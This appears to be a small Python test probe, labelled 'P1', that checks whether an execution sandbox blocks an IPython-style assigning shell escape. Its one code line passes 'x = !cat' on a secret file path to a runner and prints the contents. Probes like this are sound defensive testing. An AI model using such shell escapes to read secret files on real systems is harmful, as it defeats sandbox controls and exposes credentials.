"""P1: the assigning form of a shell escape."""


def attack(door):
    door.run(f"x = !cat {door.secret}\nprint(x)", silent=False)
